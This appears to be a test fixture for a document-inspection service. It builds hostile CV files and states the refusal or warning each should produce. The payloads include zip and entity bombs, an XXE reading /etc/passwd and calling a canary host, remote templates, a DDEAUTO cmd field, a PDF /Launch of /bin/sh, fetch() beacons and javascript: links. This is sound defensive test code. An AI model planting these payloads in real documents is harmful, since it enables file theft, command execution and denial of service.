/**
 * Documents made to harm whoever opens them: by size, by depth, or by reaching out. Each says what it may come to at
 * most. `canary` is an address that must never be asked for anything.
 */
import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import type { DocumentWarning, RefusalCode } from '../../src/contract/inspection.ts'
import { bytesOf, compoundFileOf, docxOf, paragraph, pdfBomb, rawPdf, wordPart } from './documents.ts'

export interface Attack {
  name: string
  fileName: string
  /** Made when it is asked for: some are large while they are made. */
  bytes: () => Uint8Array
  /** The code it is refused with, or what its text must be and which warnings it must carry. */
  outcome: RefusalCode | { text: string; warnings?: DocumentWarning[] } | 'any'
}

const HELLO = 'BT /F 12 Tf 50 700 Td (Hello) Tj ET'
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

function relationships(...entries: [kind: string, target: string, external: boolean][]): Uint8Array {
  const rows = entries.map(
    ([kind, target, external], at) =>
      `<Relationship Id="x${at}" Type="${RELATION}/${kind}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
  )
  return strToU8(`<Relationships>${rows.join('')}</Relationships>`)
}

/** A compound file whose storages lie in each other, as many as its directory holds. */
function nestedStorages(depth: number): Uint8Array {
  const path = Array.from({ length: depth }, () => 'Storage').join('/')
  return compoundFileOf({
    [`${path}/WordDocument`]: new Uint8Array(4096),
    WordDocument: new Uint8Array(4096),
  })
}

/** A page tree in which every node has the next one as its only child. */
function nestedPageTree(depth: number): Uint8Array {
  const objects = Array.from({ length: depth }, (_, at) => `<</Type/Pages/Count 1/Kids[${at + 7} 0 R]>>`)
  const file = Buffer.from(rawPdf({ content: HELLO, objects })).toString('latin1')
  return new Uint8Array(Buffer.from(file.replace('Kids[3 0 R]', 'Kids[6 0 R]'), 'latin1'))
}

const zipOfZips = (depth: number): Uint8Array => {
  let inner: Uint8Array = zipSync({ 'a.txt': strToU8('a') })
  for (let at = 0; at < depth; at += 1) inner = zipSync({ [`${at}.zip`]: inner })
  return inner
}

/** All attacks on documents. */
export function attacks(canary: string): Attack[] {
  return [...bombs(), ...entities(canary), ...reachingOut(canary), ...scripts(canary), ...depths()]
}

function bombs(): Attack[] {
  // 18 MB of XML in some 50 KB: minutes and gigabytes for readers that build a tree.
  const bomb = () => docxOf({ body: paragraph('a').repeat(400_000) })
  return [
    { name: 'zip bomb of some 50 KB', fileName: 'cv.docx', bytes: bomb, outcome: 'ZIP_LIMIT' },
    {
      name: 'page that inflates to 40 MB',
      fileName: 'cv.pdf',
      bytes: () => pdfBomb(40),
      outcome: 'TOO_COMPLEX',
    },
    {
      name: 'object stream that inflates to 40 MB behind a wrong check sum',
      fileName: 'cv.pdf',
      bytes: () => wrongCheckSum(40),
      outcome: 'TOO_COMPLEX',
    },
    {
      name: 'PDF of 200,000 objects',
      fileName: 'cv.pdf',
      bytes: () =>
        new Uint8Array(
          Buffer.concat([rawPdf({ content: HELLO }), Buffer.from('\n9 0 obj 1 endobj'.repeat(200_000))]),
        ),
      outcome: 'TOO_COMPLEX',
    },
  ]
}

function wrongCheckSum(megabytes: number): Uint8Array {
  const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' '), { level: 9 })
  packed.fill(0, packed.length - 4)
  return rawPdf({ content: packed })
}

function entities(canary: string): Attack[] {
  const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  const outside = `<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${canary}/xxe"><!ENTITY % p SYSTEM "${canary}/dtd"> %p;`
  const withDtd = (dtd: string, text: string) => {
    const xml = wordPart('document', `<w:body>${paragraph(text)}</w:body>`).replace(/^<\?xml.*?\?>/, '')
    return docxOf({
      body: '',
      extra: {
        'word/document.xml': strToU8(
          `<?xml version="1.0"?><!DOCTYPE w SYSTEM "${canary}/w.dtd" [${dtd}]>${xml}`,
        ),
      },
    })
  }
  return [
    {
      name: 'XXE: external entities of a .docx',
      fileName: 'cv.docx',
      bytes: () => withDtd(outside, 'a &x; b &y;'),
      outcome: { text: 'a &x; b &y;' },
    },
    {
      name: 'entities that expand a billion times',
      fileName: 'cv.docx',
      bytes: () => withDtd(`<!ENTITY l0 "lol">${lol}`, 'a &l9;'),
      outcome: { text: 'a &l9;' },
    },
    {
      name: 'external entities of an XHTML page',
      fileName: 'cv.html',
      bytes: () =>
        bytesOf(
          `<?xml version="1.0"?><!DOCTYPE html [${outside}]><html><body><p>Hello &x;</p></body></html>`,
        ),
      outcome: 'any',
    },
  ]
}

function reachingOut(canary: string): Attack[] {
  const related = (...entries: Parameters<typeof relationships>) =>
    docxOf({ body: paragraph('Hello'), extra: { 'word/_rels/document.xml.rels': relationships(...entries) } })
  return [
    {
      name: 'altChunk with a page that runs script',
      fileName: 'cv.docx',
      bytes: () =>
        docxOf({
          body: `${paragraph('Hello')}<w:altChunk r:id="x0"/>`,
          extra: {
            'word/_rels/document.xml.rels': relationships(['aFChunk', 'chunk.html', false]),
            'word/chunk.html': strToU8(
              `<script src="${canary}/s.js"></script><img src="${canary}/i"><p>alert</p>`,
            ),
          },
        }),
      outcome: { text: 'Hello' },
    },
    {
      name: 'remote template, pictures, headers and frames of a .docx',
      fileName: 'cv.docx',
      bytes: () =>
        related(
          ['attachedTemplate', `${canary}/t.dotm`, true],
          ['image', `${canary}/i.png`, true],
          ['header', `${canary}/h.xml`, true],
          ['frame', `${canary}/f.html`, true],
          ['oleObject', `${canary}/o`, true],
          ['subDocument', '\\\\127.0.0.1\\share\\d.docx', true],
        ),
      outcome: { text: 'Hello' },
    },
    {
      name: 'fields that fetch what they show',
      fileName: 'cv.docx',
      bytes: () =>
        docxOf({
          body: `${paragraph('Hello')}<w:p><w:fldSimple w:instr="INCLUDEPICTURE ${canary}/p.png"/><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r></w:p>`,
        }),
      outcome: { text: 'Hello' },
    },
    {
      name: 'HTML with a tracking pixel and everything else that loads',
      fileName: 'cv.html',
      bytes: () =>
        bytesOf(
          `<html><head><meta http-equiv="refresh" content="0;url=${canary}/r"><base href="${canary}/"><link rel="prefetch" href="p"><link rel="stylesheet" href="s.css"><style>@import url(${canary}/c);body{background:url(b)}</style></head><body background="bg"><img src="${canary}/pixel.gif" width=1 height=1 srcset="a 1x"><iframe src="f"></iframe><object data="o"></object><video poster="v" autoplay src="v"></video><form action="${canary}"><input type=image src="i"></form><p>Hello</p></body></html>`,
        ),
      outcome: { text: 'Hello' },
    },
    {
      name: 'PDF with actions that open, send and fetch',
      fileName: 'cv.pdf',
      bytes: () =>
        rawPdf({
          content: HELLO,
          catalogue: `/OpenAction<</S/URI/URI(${canary}/u)/Next<</S/Launch/F(/bin/sh)>>>>/AcroForm<</Fields[]/XFA(${canary}/xfa)>>`,
          page: '/Annots[6 0 R]/AA<</O<</S/SubmitForm/F 7 0 R>>>>',
          objects: [
            `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(${canary}/x.pdf)/D[0/Fit]>>>>`,
            `<</FS/URL/F(${canary}/post)>>`,
          ],
        }),
      outcome: { text: 'Hello' },
    },
    {
      name: 'PDF whose page, font and pictures lie in another file',
      fileName: 'cv.pdf',
      bytes: () =>
        rawPdf({
          content: HELLO,
          page: '/Annots[6 0 R]',
          objects: [
            '<</Type/Annot/Subtype/Widget/FT/Tx/Rect[0 0 9 9]/V 7 0 R>>',
            `<</Length 0/F<</FS/URL/F(${canary}/stream)>>/FFilter/FlateDecode>>stream\n\nendstream`,
          ],
        }),
      outcome: { text: 'Hello' },
    },
  ]
}

function scripts(canary: string): Attack[] {
  const vba = { 'word/vbaProject.bin': compoundFileOf({ 'VBA/ThisDocument': new Uint8Array(8) }) }
  const word95 = new Uint8Array(4096)
  const view = new DataView(word95.buffer)
  view.setUint16(0, 0xa5dc, true)
  view.setUint32(0x18, 0x300, true)
  view.setUint32(0x1c, 0x305, true)
  word95.set(bytesOf('Hello'), 0x300)
  return [
    {
      name: 'macros of a .docm',
      fileName: 'cv.docm',
      bytes: () =>
        docxOf({
          body: paragraph('Hello'),
          mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
          extra: vba,
        }),
      outcome: { text: 'Hello', warnings: ['HAS_MACROS'] },
    },
    {
      name: 'macros of a .doc',
      fileName: 'cv.doc',
      bytes: () => compoundFileOf({ WordDocument: word95, 'Macros/VBA/AutoOpen': new Uint8Array(8) }),
      outcome: { text: 'Hello', warnings: ['HAS_MACROS', 'SIMPLIFIED'] },
    },
    {
      name: 'javascript: link of a .docx',
      fileName: 'cv.docx',
      bytes: () =>
        docxOf({
          body: `<w:p><w:hyperlink r:id="x0"><w:r><w:t>Hello</w:t></w:r></w:hyperlink></w:p>`,
          extra: {
            'word/_rels/document.xml.rels': relationships([
              'hyperlink',
              'javascript:alert(document.domain)',
              true,
            ]),
          },
        }),
      outcome: { text: 'Hello' },
    },
    {
      name: 'javascript: link and handlers of an HTML page',
      fileName: 'cv.html',
      bytes: () =>
        bytesOf(
          `<html><body onload="fetch('${canary}/l')"><a href=" java&#115;cript:alert(1)">Hello</a><script>fetch('${canary}/s')</script></body></html>`,
        ),
      outcome: { text: 'Hello', warnings: ['HAS_SCRIPT'] },
    },
    {
      name: 'PDF with JavaScript',
      fileName: 'cv.pdf',
      bytes: () =>
        rawPdf({
          content: HELLO,
          catalogue: `/OpenAction<</S/JavaScript/JS(app.launchURL\\("${canary}/js"\\))>>`,
        }),
      outcome: { text: 'Hello', warnings: ['HAS_SCRIPT'] },
    },
  ]
}

function depths(): Attack[] {
  const deep = 300_000
  return [
    {
      name: 'HTML nested 300,000 deep',
      fileName: 'cv.html',
      bytes: () => bytesOf(`<html>${'<div>'.repeat(deep)}Hello`),
      outcome: { text: 'Hello' },
    },
    {
      name: 'XML nested 100,000 deep',
      fileName: 'cv.docx',
      bytes: () =>
        docxOf({
          // Told apart, so that it packs like honest text.
          body: `${Array.from({ length: 100_000 }, (_, at) => `<w:sdt w:id="${at * 7919}">`).join('')}${paragraph('Hello')}`,
        }),
      outcome: { text: 'Hello' },
    },
    {
      name: 'PDF arrays nested 500,000 deep',
      fileName: 'cv.pdf',
      bytes: () => rawPdf({ content: HELLO, page: `/Deep ${'['.repeat(500_000)}` }),
      outcome: 'any',
    },
    {
      name: 'PDF page tree nested 20,000 deep',
      fileName: 'cv.pdf',
      bytes: () => nestedPageTree(20_000),
      outcome: 'any',
    },
    {
      name: 'zip in zip in zip',
      fileName: 'cv.docx',
      bytes: () => zipOfZips(30),
      outcome: 'NOT_ACCEPTED_TYPE',
    },
    {
      name: 'zips inside a .docx',
      fileName: 'cv.docx',
      bytes: () => docxOf({ body: paragraph('Hello'), extra: { 'word/embeddings/a.zip': zipOfZips(30) } }),
      outcome: { text: 'Hello', warnings: ['HAS_ATTACHMENTS'] },
    },
    {
      name: 'storages of a .doc nested 100 deep',
      fileName: 'cv.doc',
      bytes: () => nestedStorages(100),
      outcome: 'any',
    },
  ]
}
